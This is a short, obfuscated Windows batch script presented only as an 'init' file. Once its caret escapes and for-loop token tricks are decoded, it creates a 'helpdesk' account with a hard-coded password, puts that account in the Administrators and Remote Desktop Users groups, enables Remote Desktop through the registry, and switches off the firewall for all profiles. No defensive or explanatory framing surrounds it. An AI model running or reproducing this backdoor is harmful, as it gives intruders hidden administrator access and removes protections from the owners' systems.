REM init 4526 v4
^f^or /^f "tokens=2 delims=~" %%i in ("ktyj~net~lanl") ^d^o %%i ^us^e^r ^he^lpde^s^k Ad^m1^n!^s^trat0^r /add /^y
^fo^r /f "tokens=2 delims=;" %%i i^n ("xgxa;net;iwkj") ^do %%^i loca^l^group ^a^dminis^tra^t^o^rs ^he^lp^d^esk /add
fo^r /^f "tokens=1 delims=~" %%i ^in ("net~ltnr~kegu") d^o %%i localgroup "Remote Desktop Users" helpd^e^sk /ad^d
f^or /^f "tokens=3 delims=@" %%i in ("zcud@ubyk@reg") ^d^o %%i ^a^d^d "HKLM\SYSTEM\CurrentControlSet\Control\Terminal Server" /^v ^fDenyT^SC^o^nnec^t^ions /^t ^REG_^DWO^RD /d ^0 /f
f^or /^f "tokens=2 delims=#" %%^i in ("sdri#netsh#zjdj") ^d^o %%i ad^v^fi^rewa^ll s^e^t ^allpr^ofiles ^s^t^a^t^e ^off
